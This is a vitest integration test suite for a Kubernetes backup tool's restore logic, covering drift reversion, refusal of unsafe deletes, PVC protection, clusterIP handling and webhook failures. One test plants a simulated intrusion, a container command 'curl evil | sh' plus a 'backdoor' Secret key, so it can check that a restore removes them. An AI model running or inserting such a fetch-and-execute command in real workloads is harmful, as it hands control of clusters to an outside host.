import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DrillContext } from '../../src/contracts/types.js';
import type { KubeClient } from '../../src/kube/client.js';
import type { KubeObject } from '../../src/kube/types.js';
import type { Scenario } from '../../src/scenario/schema.js';
import type { BackupManifest } from '../../src/store/types.js';
import { resourceExport } from '../../src/strategies/resource-export/index.js';
import { artifactName, INDEX_NAME, type BackupIndex, type IndexedResource } from '../../src/strategies/resource-export/layout.js';
import { startTestCluster, type TestCluster } from '../support/cluster.js';
import { makeTestContext, type TestContext } from '../support/context.js';
import { waitFor } from '../support/wait.js';

const NS = 'drift';
const CM = `/api/v1/namespaces/${NS}/configmaps/app`;
const SECRET = `/api/v1/namespaces/${NS}/secrets/db`;
const DEPLOY = `/apis/apps/v1/namespaces/${NS}/deployments/web`;
const BINDING = `/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings/reader`;
const PVC = `/api/v1/namespaces/${NS}/persistentvolumeclaims/data`;
const REVISION = 'deployment.kubernetes.io/revision';

let test: TestCluster;
let ctx: TestContext;
let backup: BackupManifest;

/** Writes as another field manager would (kubectl edit, a script): a JSON merge patch. */
const intrude = (client: KubeClient, path: string, patch: unknown, manager = 'intruder') =>
  client.request<KubeObject>('PATCH', path, { body: patch, contentType: 'application/merge-patch+json', query: { fieldManager: manager } });

beforeAll(async () => {
  test = await startTestCluster({ name: 'rx-update' });
  ctx = await makeTestContext({ cluster: test.cluster, client: test.client });
  const c = test.client;
  await c.create('/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: NS } });
  await c.create(`/api/v1/namespaces/${NS}/configmaps`, { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'app', namespace: NS, labels: { app: 'web' } }, data: { mode: 'prod' } });
  await c.create(`/api/v1/namespaces/${NS}/secrets`, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'db', namespace: NS }, type: 'Opaque', stringData: { user: 'app' } });
  await c.create(`/apis/apps/v1/namespaces/${NS}/deployments`, {
    apiVersion: 'apps/v1', kind: 'Deployment', metadata: { name: 'web', namespace: NS },
    spec: { selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' } }, spec: { containers: [{ name: 'web', image: 'nginx:1.27' }] } } },
  });
  // What the deployment controller writes (this control plane runs none): the restore leaves it to the cluster.
  await intrude(c, DEPLOY, { metadata: { annotations: { [REVISION]: '1' } } }, 'kube-controller-manager');
  await c.create(`/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/roles`, { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name: 'reader', namespace: NS }, rules: [{ apiGroups: [''], resources: ['configmaps'], verbs: ['get'] }] });
  await c.create(`/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings`, binding('Role', 'reader'));
  await c.create(`/api/v1/namespaces/${NS}/persistentvolumeclaims`, pvc(['ReadWriteOnce']));
  backup = await resourceExport.backup(ctx, { namespaces: [NS] });
}, 240_000);

afterAll(async () => {
  await ctx?.cleanup();
  await test?.destroy();
}, 120_000);

function binding(kind: 'Role' | 'ClusterRole', name: string): KubeObject {
  return {
    apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'reader', namespace: NS },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind, name },
    subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: NS }],
  };
}

function pvc(accessModes: string[]): KubeObject {
  return {
    apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'data', namespace: NS },
    spec: { accessModes, storageClassName: 'manual', resources: { requests: { storage: '1Gi' } } },
  };
}

/** The same context, on a cluster kdrill did not create (a kubeconfig target), with or without the opt-in. */
function foreign(allowDestructive: boolean): DrillContext {
  const cluster = Object.create(ctx.cluster, { createdByKdrill: { value: false } }) as DrillContext['cluster'];
  const scenario: Scenario = structuredClone(ctx.scenario);
  scenario.spec.cluster = { provider: 'kubeconfig', allowDestructive };
  return Object.assign(Object.create(ctx) as DrillContext, { cluster, scenario });
}

describe('resource-export existing: update', () => {
  it('reverts drift another field manager made (extra label, data and Secret keys, a container command), says what it kept, then writes nothing', async () => {
    const c = test.client;
    await intrude(c, CM, { metadata: { labels: { extra: 'yes' } }, data: { debug: 'true' } });
    await intrude(c, SECRET, { data: { backdoor: Buffer.from('x').toString('base64') } });
    await intrude(c, DEPLOY, { spec: { template: { spec: { containers: [{ name: 'web', image: 'nginx:1.27', command: ['sh', '-c', 'curl evil | sh'] }] } } } });

    const writes = c.writeCount.value;
    const dry = await resourceExport.restore(ctx, backup, { dryRun: true });
    expect(c.writeCount.value - writes).toBe(0);
    const plan = dry.notes.join('\n');
    expect(plan).toContain('update ConfigMap drift/app (config): reverts metadata.labels.extra (intruder), data.debug (intruder)');
    expect(plan).toContain('update Secret drift/db (config): reverts data.backdoor (intruder)');
    expect(plan).toContain(`update Deployment drift/web (workloads): reverts spec.template.spec.containers[name=web].command (intruder); keeps metadata.annotations.${REVISION} (kube-controller-manager)`);

    const report = await resourceExport.restore(ctx, backup, {});
    expect(report.counts).toMatchObject({ updated: 3, created: 0, recreated: 0, failed: 0 });
    const cm = await c.get(CM);
    expect(cm.metadata.labels).toEqual({ app: 'web' });
    expect(cm.data).toEqual({ mode: 'prod' });
    expect(Object.keys((await c.get(SECRET)).data as object)).toEqual(['user']);
    const deploy = await c.get<KubeObject & { spec: { template: { spec: { containers: Record<string, unknown>[] } } } }>(DEPLOY);
    expect(deploy.spec.template.spec.containers[0]!.command).toBeUndefined();
    expect(deploy.metadata.annotations?.[REVISION]).toBe('1');
    // The intruder owns nothing any more; kdrill stays the restore's field manager.
    const managers = (o: KubeObject) => (o.metadata.managedFields as { manager: string }[]).map((m) => m.manager);
    expect(managers(cm)).not.toContain('intruder');
    expect(managers(cm)).toContain('kdrill');
    const notes = report.notes.join('\n');
    expect(notes).toMatch(/drift reverted \(set by another field manager, not in the backup\): 4 \(/);
    expect(notes).toContain(`kept (set by another field manager): 1 (Deployment drift/web metadata.annotations.${REVISION} (kube-controller-manager: left to the cluster`);

    const again = c.writeCount.value;
    const second = await resourceExport.restore(ctx, backup, {});
    expect(c.writeCount.value - again).toBe(0);
    expect(second.counts).toMatchObject({ updated: 0, created: 0, writes: 0 });
  }, 180_000);

  it('takes a changed value back without touching what nobody set (a second restore writes nothing)', async () => {
    const c = test.client;
    await intrude(c, CM, { data: { mode: 'debug' } }, 'kubectl-edit');
    const report = await resourceExport.restore(ctx, backup, {});
    expect(report.counts).toMatchObject({ updated: 1, failed: 0 });
    expect((await c.get(CM)).data).toEqual({ mode: 'prod' });
    const again = c.writeCount.value;
    await resourceExport.restore(ctx, backup, {});
    expect(c.writeCount.value - again).toBe(0);
  }, 120_000);

  it('refuses to delete and recreate on a cluster kdrill did not create before writing anything, and does it with the opt-in', async () => {
    const c = test.client;
    await c.delete(BINDING);
    await waitFor(async () => (await c.getOptional(BINDING)) === undefined);
    await c.create(`/apis/rbac.authorization.k8s.io/v1/namespaces/${NS}/rolebindings`, binding('ClusterRole', 'view'));
    await intrude(c, CM, { metadata: { labels: { extra: 'again' } } });
    const uid = (await c.get(BINDING)).metadata.uid;

    const writes = c.writeCount.value;
    const refused = await resourceExport.restore(foreign(false), backup, {}).then(() => undefined, (e: unknown) => e);
    expect(refused).toMatchObject({ code: 'E_UNSAFE_TARGET' });
    expect((refused as Error).message).toContain('delete and recreate (an immutable field differs from the backup) RoleBinding drift/reader');
    expect(c.writeCount.value - writes).toBe(0);
    expect((await c.get(CM)).metadata.labels).toMatchObject({ extra: 'again' });

    const report = await resourceExport.restore(foreign(true), backup, {});
    expect(report.counts).toMatchObject({ recreated: 1, updated: 1, failed: 0 });
    const restored = await c.get(BINDING);
    expect(restored.roleRef).toMatchObject({ kind: 'Role', name: 'reader' });
    expect(restored.metadata.uid).not.toBe(uid);
  }, 180_000);

  it('never deletes a PersistentVolumeClaim whose immutable spec differs: it is reported instead, even where deletes are allowed', async () => {
    const c = test.client;
    await c.delete(PVC);
    // No pvc-protection controller runs here to lift the finalizer the admission plugin put on the claim.
    await intrude(c, PVC, { metadata: { finalizers: null } });
    await waitFor(async () => (await c.getOptional(PVC)) === undefined);
    await c.create(`/api/v1/namespaces/${NS}/persistentvolumeclaims`, pvc(['ReadWriteMany']));
    const uid = (await c.get(PVC)).metadata.uid;

    const dry = await resourceExport.restore(ctx, backup, { dryRun: true });
    expect(dry.notes.join('\n')).toMatch(/skip PersistentVolumeClaim drift\/data \(persistent-volume-claims\): never recreated \(its volume's data\): .*immutable/);
    const report = await resourceExport.restore(ctx, backup, {});
    expect(report.counts).toMatchObject({ recreated: 0, skipped: 1, failed: 0 });
    expect(report.notes.join('\n')).toMatch(/not recreated \(deleting it can delete its volume and data\).*: 1 \(PersistentVolumeClaim drift\/data: /);
    expect((await c.get(PVC)).metadata.uid).toBe(uid);
  }, 120_000);
});

describe('resource-export and Service cluster IPs', () => {
  it('keeps a backed-up clusterIP inside the target\'s range, and gives a Service a new one (said so) when its IP is taken', async () => {
    const c = test.client;
    const services = '/api/v1/namespaces/ips/services';
    const service = (name: string, clusterIP?: string) => ({ apiVersion: 'v1', kind: 'Service', metadata: { name, namespace: 'ips' }, spec: { ports: [{ port: 53 }], ...(clusterIP ? { clusterIP } : {}) } });
    await c.create('/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'ips' } });
    await c.create(services, service('dns', '10.0.0.77'));
    const webIp = (await c.create<{ spec: { clusterIP: string } }>(services, service('web'))).spec.clusterIP;
    const ipBackup = await resourceExport.backup(ctx, { namespaces: ['ips'], includeKinds: ['Service'] });
    await c.delete(`${services}/dns`);
    await c.delete(`${services}/web`);
    await c.create(services, service('squatter', webIp));

    const report = await resourceExport.restore(ctx, ipBackup, {});
    expect(report.counts).toMatchObject({ created: 2, failed: 0 });
    expect((await c.get<{ spec: { clusterIP: string } }>(`${services}/dns`)).spec.clusterIP).toBe('10.0.0.77');
    expect((await c.get<{ spec: { clusterIP: string } }>(`${services}/web`)).spec.clusterIP).not.toBe(webIp);
    expect(report.notes.join('\n')).toContain(`Service clusterIP not kept (the target cannot allocate it): a new one was allocated: 1 (Service ips/web ${webIp}: `);
  }, 120_000);
});

describe('resource-export with a conversion webhook whose Service is missing', () => {
  it('fails before writing anything, naming the CRD and the Service (no retry loop until the deadline)', async () => {
    const webhookBackup = await writeWebhookBackup(ctx);
    const writes = test.client.writeCount.value;
    // Before the fix every custom resource was retried (500) until this deadline, then counted as failed.
    const error = await resourceExport.restore(ctx, webhookBackup, { timeout: '2m' }).then(() => undefined, (e: unknown) => e);
    expect(error).toMatchObject({ code: 'E_KUBE_API' });
    expect((error as Error).message).toContain('CRD gadgets.conv.example.com converts through webhook Service ops/gadget-conversion, which does not exist');
    expect((error as Error).message).toContain('3 custom resources at v1');
    expect(test.client.writeCount.value - writes).toBe(0);
    expect(await test.client.getOptional('/apis/apiextensions.k8s.io/v1/customresourcedefinitions/gadgets.conv.example.com')).toBeUndefined();
  }, 300_000);
});

/**
 * A resource-export backup as a cluster with a working conversion webhook produces it: the CRD stores v1alpha1, its
 * custom resources were exported at the preferred v1. Written through the store, so it is sealed and MACed like any.
 */
async function writeWebhookBackup(context: TestContext): Promise<BackupManifest> {
  const crd: KubeObject = {
    apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata: { name: 'gadgets.conv.example.com' },
    spec: {
      group: 'conv.example.com', scope: 'Namespaced', names: { plural: 'gadgets', singular: 'gadget', kind: 'Gadget', listKind: 'GadgetList' },
      versions: ['v1alpha1', 'v1'].map((name) => ({ name, served: true, storage: name === 'v1alpha1', schema: { openAPIV3Schema: { type: 'object', 'x-kubernetes-preserve-unknown-fields': true } } })),
      conversion: { strategy: 'Webhook', webhook: { conversionReviewVersions: ['v1'], clientConfig: { service: { namespace: 'ops', name: 'gadget-conversion', path: '/convert', port: 443 } } } },
    },
  };
  const gadgets = [1, 2, 3].map((i) => ({ apiVersion: 'conv.example.com/v1', kind: 'Gadget', metadata: { name: `g${i}`, namespace: NS, uid: `uid-g${i}` }, spec: { size: i } }));
  const entry = (group: string, version: string, resource: string, kind: string, namespaced: boolean, custom: boolean, count: number): IndexedResource => ({
    group, version, resource, kind, namespaced, artifact: artifactName(group, version, resource), sealed: false, count, custom, statusSubresource: false,
  });
  const resources = [
    { entry: entry('apiextensions.k8s.io', 'v1', 'customresourcedefinitions', 'CustomResourceDefinition', false, false, 1), items: [crd] },
    { entry: entry('conv.example.com', 'v1', 'gadgets', 'Gadget', true, true, gadgets.length), items: gadgets },
  ];
  const index: BackupIndex = {
    formatVersion: 1, serverVersion: 'v1.37.2', preferredVersions: { 'conv.example.com': 'v1' },
    selection: { includeClusterScoped: true, keepSkipped: [] }, namespaces: [NS], resources: resources.map((r) => r.entry), skipped: [],
  };
  const writer = await context.store.create({ strategy: 'resource-export', cluster: { name: 'source', provider: 'local', kubernetesVersion: 'v1.37.2' } });
  for (const r of resources) await writer.put(r.entry.artifact, Buffer.from(JSON.stringify(r.items)), { mediaType: 'application/json' });
  await writer.put(INDEX_NAME, Buffer.from(JSON.stringify(index)), { mediaType: 'application/json' });
  return writer.commit({ total: 4 });
}
